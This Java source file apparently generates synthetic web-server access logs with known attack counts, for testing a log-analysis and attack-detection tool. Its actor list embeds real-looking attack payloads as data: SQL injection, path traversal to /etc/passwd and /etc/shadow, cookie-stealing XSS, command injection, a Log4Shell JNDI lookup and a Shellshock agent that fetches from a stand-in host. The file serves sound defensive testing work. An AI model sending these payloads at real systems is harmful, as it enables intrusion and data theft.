package org.evident.cli.demo;

import java.io.IOException;
import java.io.Writer;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;

/**
 * Writes a realistic month of web traffic in the combined format, deterministically from a seed:
 * mostly benign visitors and crawlers from many countries, plus attacks by several actors and
 * tools. Knows the truth about every line it writes, so tests can check exact counts.
 */
public final class TrafficGenerator {
  /** A country and address blocks located there by DB-IP (checked by GeoLookupTest). */
  record Country(String code, int[][] blocks, double benignWeight) {}

  static final List<Country> COUNTRIES = List.of(
      new Country("US", new int[][] {{8, 8, 8}, {24, 0, 0}}, 30),
      new Country("CN", new int[][] {{36, 96, 0}, {58, 16, 0}, {114, 240, 0}, {223, 64, 0}}, 14),
      new Country("DE", new int[][] {{46, 4, 0}, {78, 46, 0}, {85, 10, 192}}, 8),
      new Country("GB", new int[][] {{86, 128, 0}, {81, 2, 64}}, 7),
      new Country("FR", new int[][] {{62, 210, 0}}, 6),
      new Country("RU", new int[][] {{95, 108, 128}}, 6),
      new Country("JP", new int[][] {{126, 0, 0}}, 6),
      new Country("BR", new int[][] {{179, 96, 0}}, 5),
      new Country("IN", new int[][] {{117, 192, 0}, {59, 88, 0}}, 6),
      new Country("KR", new int[][] {{121, 128, 0}}, 3),
      new Country("NL", new int[][] {{145, 100, 0}}, 3),
      new Country("VN", new int[][] {{113, 160, 0}, {14, 160, 0}}, 3),
      new Country("CA", new int[][] {{99, 224, 0}}, 3));

  /** One attacking actor: where from, with which tool and payloads, how active. */
  record Actor(String name, String country, int addresses, String userAgent, String tool,
      String attackClass, List<String> targets, int status, double weight) {}

  static final String CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
      + " (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

  static final List<Actor> ACTORS = List.of(
      new Actor("sqlmap-us", "US", 40, "sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap",
          "sqli", List.of(
              "/products?id=1%27%20AND%205621%3D5621%20AND%20%27a%27%3D%27a",
              "/products?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cconcat(0x71,0x78)--%20-",
              "/search?q=shoe%27%29%20AND%20SLEEP%285%29%23",
              "/products?id=-3512%27%20OR%206872%3D6872--%20Cxwd"), 200, 30),
      new Actor("manual-sqli-us", "US", 400, CHROME, null, "sqli", List.of(
              "/login.php?user=admin%27--&pass=x",
              "/products?id=1%27%20or%20%271%27%3D%271",
              "/item?id=2%20union%20select%20username,password%20from%20users"), 200, 25),
      new Actor("nikto-cn", "CN", 12, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
          "Nikto", "sensitive-file", List.of("/.env", "/.git/config", "/backup.sql",
              "/wp-config.php.bak", "/phpinfo.php"), 404, 10),
      new Actor("traversal-cn", "CN", 60, CHROME, null, "traversal", List.of(
              "/download?file=..%2F..%2F..%2Fetc%2Fpasswd",
              "/static/..%252f..%252f..%252fetc%252fshadow",
              "/page?inc=....//....//windows/win.ini"), 400, 5),
      new Actor("log4shell-nl", "NL", 20, "${jndi:ldap://45.83.64.1:1389/a}", null, "log4shell",
          List.of("/", "/api/login", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"), 200, 4),
      new Actor("wp-probe-ru", "RU", 150, CHROME, null, "admin-probe", List.of(
              "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpmyadmin/"),
          404, 7),
      new Actor("gobuster-de", "DE", 5, "gobuster/3.6", "gobuster", "scanner", List.of(
              "/admin-old/", "/dev/", "/staging/", "/portal/"), 404, 4),
      new Actor("nuclei-vn", "VN", 25, "Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source"
          + " project (github.com/projectdiscovery/nuclei)", "Nuclei", "admin-probe", List.of(
              "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
              "/_ignition/execute-solution", "/actuator/env"), 404, 6),
      new Actor("xss-br", "BR", 30, CHROME, null, "xss", List.of(
              "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
              "/comment?text=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
              "/search?q=javascript:alert(1)"), 200, 4),
      new Actor("cmdi-in", "IN", 15, "curl/7.88.1", null, "cmdi", List.of(
              "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts",
              "/cgi?cmd=%7Cid", "/tools?ip=8.8.8.8%26%26whoami"), 200, 3),
      new Actor("shellshock-kr", "KR", 8, "() { :; }; /bin/bash -c \"wget http://x.example/b\"",
          null, "shellshock", List.of("/cgi-bin/status", "/cgi-bin/test.cgi"), 404, 2));

  static final List<String> BENIGN_PATHS = List.of("/", "/", "/", "/products", "/products?page=2",
      "/products/running-shoe-421", "/products/trail-boot-17?color=brown&size=44",
      "/search?q=select+a+shoe", "/search?q=O%27Brien+boots", "/search?q=rock+%26+roll+t-shirt",
      "/search?q=%E9%9E%8B%E5%AD%90", "/search?q=union+jack+socks", "/cart", "/checkout",
      "/account/orders", "/blog/how-to-choose-running-shoes", "/blog?tag=drop+shipping",
      "/static/app.3f9a1c.js", "/static/app.css", "/images/hero.webp", "/favicon.ico",
      "/robots.txt", "/sitemap.xml", "/api/cart?items=%5B%7B%22id%22%3A4%2C%22qty%22%3A1%7D%5D",
      "/?utm_source=newsletter&utm_medium=email&utm_campaign=feb-sale&fbclid=IwAR2xYz_09-aZ",
      "/login?next=%2Faccount%2Forders", "/auth/callback?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOjF9"
          + ".sig_Ab-9", "/products?sort=price&order=asc", "/help/returns-and-exchanges",
      "/search?q=what+is+1%3D1+in+maths", "/contact?subject=Where%27s+my+order%3F");

  static final List<String> BENIGN_AGENTS = List.of(CHROME,
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko)"
          + " Version/17.2 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
          + " Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
      "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/120.0.0.0 Mobile Safari/537.36",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)");

  /** Words a shop's visitors search for, products are named after and campaigns are called. */
  static final List<String> WORDS = List.of("running", "trail", "boot", "shoe", "sandal", "sock",
      "jacket", "waterproof", "leather", "suede", "kids", "women", "men", "wide", "fit", "black",
      "brown", "navy", "white", "red", "green", "grey", "size", "sale", "winter", "summer",
      "hiking", "walking", "gym", "insole", "laces", "heel", "slipper", "clog", "trainer",
      "vegan", "wool", "cotton", "gift", "card", "voucher", "return", "delivery", "outlet",
      "limited", "edition", "classic", "retro", "lightweight", "wedding", "school", "office",
      "zapatos", "chaussures", "schuhe", "scarpe", "botas", "größe", "été", "niño", "ç", "日本");
  static final List<String> REFERERS = List.of("https://www.google.com/", "https://www.bing.com/",
      "https://duckduckgo.com/", "https://l.facebook.com/", "android-app://com.google.android.gm/",
      "https://t.co/");
  private static final String BASE64URL =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  static final List<String> CAMPAIGNS = List.of("newsletter", "google", "facebook", "instagram",
      "tiktok", "affiliate", "partner", "bing", "pinterest", "email");

  private final SplittableRandom random;
  /**
   * A second stream for the details of benign lines (product ids, search words, tokens, browser
   * versions): real logs rarely repeat a URL or agent exactly, and detection caches must not be
   * measured on a log that does. Kept apart so the attack lines and their counts depend only on
   * the first stream.
   */
  private final SplittableRandom detail;
  private final YearMonth month;
  private final String site;
  private final double attackRate;
  private final String zone;
  private final Map<String, Long> truthByClass = new TreeMap<>();
  private final Map<String, Long> truthByCountry = new TreeMap<>();
  private final Map<String, Long> truthByTool = new TreeMap<>();
  private long lines;
  private long attacks;

  /**
   * @param seed the seed: same seed, same log
   * @param month the month the traffic falls in
   * @param site virtual host written into each line, or null for plain combined
   * @param attackRate share of lines that are attacks
   * @param zone the server's UTC offset written in the time stamps, e.g. {@code +0800}
   */
  public TrafficGenerator(long seed, YearMonth month, String site, double attackRate,
      String zone) {
    this.random = new SplittableRandom(seed);
    this.detail = new SplittableRandom(seed ^ 0x5DEECE66DL);
    this.month = month;
    this.site = site;
    this.attackRate = attackRate;
    this.zone = zone;
  }

  /** Writes {@code n} lines in time order. */
  public void write(long n, Writer out) throws IOException {
    long start = month.atDay(1).atStartOfDay(ZoneOffset.UTC).toEpochSecond();
    long span = month.lengthOfMonth() * 86400L;
    ZoneOffset offset = ZoneOffset.of(zone);
    DateTimeFormatter clf = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ENGLISH);
    double totalWeight = ACTORS.stream().mapToDouble(Actor::weight).sum();
    double benignWeight = COUNTRIES.stream().mapToDouble(Country::benignWeight).sum();
    StringBuilder b = new StringBuilder(400);
    for (long i = 0; i < n; i++) {
      long t = start + (long) ((double) i / n * span);
      ZonedDateTime zt = Instant.ofEpochSecond(t).atZone(offset);
      b.setLength(0);
      if (site != null) {
        b.append(site).append(":443 ");
      }
      if (random.nextDouble() < attackRate) {
        Actor a = pick(ACTORS, totalWeight, Actor::weight);
        String ip = address(country(a.country()), a.name().hashCode(), a.addresses());
        String target = a.targets().get(random.nextInt(a.targets().size()));
        line(b, ip, zt.format(clf), random.nextInt(4) == 0 ? "POST" : "GET", target, a.status(),
            "-", a.userAgent());
        attacks++;
        truthByClass.merge(a.attackClass(), 1L, Long::sum);
        truthByCountry.merge(a.country(), 1L, Long::sum);
        if (a.tool() != null) {
          truthByTool.merge(a.tool(), 1L, Long::sum);
        }
      } else {
        Country c = pick(COUNTRIES, benignWeight, Country::benignWeight);
        String ip = address(c, 7, 3000);
        String path = BENIGN_PATHS.get(random.nextInt(BENIGN_PATHS.size()));
        int status = random.nextInt(50) == 0 ? 404 : path.startsWith("/static") ? 304 : 200;
        String ref = random.nextInt(3) == 0 ? "https://shop.example/products" : "-";
        String agent = BENIGN_AGENTS.get(random.nextInt(BENIGN_AGENTS.size()));
        line(b, ip, zt.format(clf), "GET", vary(path), status, vary(ref), vary(agent));
      }
      out.write(b.append('\n').toString());
      lines++;
    }
  }

  /**
   * One of the benign templates made particular the way real traffic is: ids, page numbers,
   * search words, tracking tokens, asset hashes and browser builds drawn from {@link #detail}.
   * About half the lines keep the template as it is (home page, crawlers, the tricky searches).
   */
  private String vary(String s) {
    if (detail.nextInt(2) == 0) {
      return s;
    }
    if (s.equals("-")) {
      return REFERERS.get(detail.nextInt(REFERERS.size())); // search engines send no query
    }
    if (s.startsWith("https://shop.example/")) {
      // one click in four is on a search's results: the search's URL is the Referer
      return detail.nextInt(4) == 0
          ? "https://shop.example/search?q=" + words(1 + detail.nextInt(3))
          : "https://shop.example/products/" + product();
    }
    if (s.startsWith("Mozilla/")) { // browsers update weekly: a month of logs holds many builds
      return s.replace("120.0.0.0", (110 + detail.nextInt(12)) + ".0." + (6000 + detail.nextInt(20))
          + "." + detail.nextInt(10)).replace("rv:121.0", "rv:" + (110 + detail.nextInt(13))
          + ".0").replace("17_2", "17_" + detail.nextInt(7));
    }
    if (s.startsWith("/products/") || s.startsWith("/products?page")) {
      return detail.nextInt(3) == 0 ? "/products?page=" + (2 + detail.nextInt(60))
          : "/products/" + product() + (detail.nextInt(4) == 0 ? "?color=" + word() + "&size="
              + (30 + detail.nextInt(20)) : "");
    }
    if (s.startsWith("/search?q=") && detail.nextInt(2) == 0) {
      return "/search?q=" + words(1 + detail.nextInt(3)) + (detail.nextInt(5) == 0 ? "&page="
          + (2 + detail.nextInt(9)) : "");
    }
    if (s.startsWith("/static/") || s.startsWith("/images/")) {
      return detail.nextInt(2) == 0 ? "/images/" + product() + "-" + detail.nextInt(8) + ".webp"
          : "/static/app." + Long.toHexString(detail.nextLong() >>> 40) + ".js";
    }
    if (s.startsWith("/?utm_source=") || s.equals("/")) {
      return "/?utm_source=" + CAMPAIGNS.get(detail.nextInt(CAMPAIGNS.size()))
          + "&utm_medium=cpc&utm_campaign=" + word() + "-" + (1 + detail.nextInt(400))
          + (detail.nextInt(2) == 0 ? "&gclid=" : "&fbclid=") + token(24 + detail.nextInt(40));
    }
    if (s.startsWith("/auth/callback?token=")) {
      return "/auth/callback?token=eyJhbGciOiJIUzI1NiJ9." + token(40) + "." + token(43)
          + "&state=" + token(22);
    }
    if (s.startsWith("/account/orders") || s.startsWith("/cart")) {
      return s + "/" + (100000 + detail.nextInt(900000));
    }
    return s;
  }

  /** One of the shop's 5,000 products, by its page name. */
  private String product() {
    int id = 1 + detail.nextInt(5000);
    return WORDS.get(id % 50) + "-" + WORDS.get(id / 50 % 50) + "-" + id;
  }

  private String word() {
    return WORDS.get(detail.nextInt(WORDS.size()));
  }

  /** {@code n} search words as a form encodes them. */
  private String words(int n) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < n; i++) {
      b.append(i == 0 ? "" : "+")
          .append(java.net.URLEncoder.encode(word(), java.nio.charset.StandardCharsets.UTF_8));
    }
    return b.toString();
  }

  /** A base64url token, like session ids, click ids and signatures. */
  private String token(int n) {
    StringBuilder b = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      b.append(BASE64URL.charAt(detail.nextInt(64)));
    }
    return b.toString();
  }

  private void line(StringBuilder b, String ip, String time, String method, String target,
      int status, String referer, String agent) {
    b.append(ip).append(" - - [").append(time).append("] \"").append(method).append(' ')
        .append(target).append(" HTTP/1.1\" ").append(status).append(' ')
        .append(status == 304 ? 0 : 200 + random.nextInt(40_000)).append(" \"").append(referer)
        .append("\" \"").append(agent.replace("\\", "\\\\").replace("\"", "\\\"")).append('"');
  }

  /** One of {@code pool} addresses of an actor or crowd, stable for a given key. */
  private String address(Country c, int key, int pool) {
    int k = Math.floorMod(key * 31 + random.nextInt(pool), 1 << 20);
    int[] block = c.blocks()[Math.floorMod(k, c.blocks().length)];
    int x = (k >> 3) & 0xffff;
    int b1 = block[1] == 0 ? (x >> 8) & 0x0f : block[1];
    int b2 = block[2] == 0 ? x & 0xff : block[2];
    return block[0] + "." + b1 + "." + b2 + "." + (1 + Math.floorMod(k * 7, 254));
  }

  private static Country country(String code) {
    for (Country c : COUNTRIES) {
      if (c.code().equals(code)) {
        return c;
      }
    }
    throw new IllegalArgumentException(code);
  }

  private <T> T pick(List<T> items, double total, java.util.function.ToDoubleFunction<T> w) {
    double r = random.nextDouble() * total;
    for (T t : items) {
      r -= w.applyAsDouble(t);
      if (r < 0) {
        return t;
      }
    }
    return items.get(items.size() - 1);
  }

  public long lines() {
    return lines;
  }

  public long attacks() {
    return attacks;
  }

  /** Attack lines written, by class. */
  public Map<String, Long> truthByClass() {
    return truthByClass;
  }

  /** Attack lines written, by the country the actor's addresses are in. */
  public Map<String, Long> truthByCountry() {
    return truthByCountry;
  }

  /** Attack lines written, by tool (only actors whose tool is recognisable). */
  public Map<String, Long> truthByTool() {
    return truthByTool;
  }
}
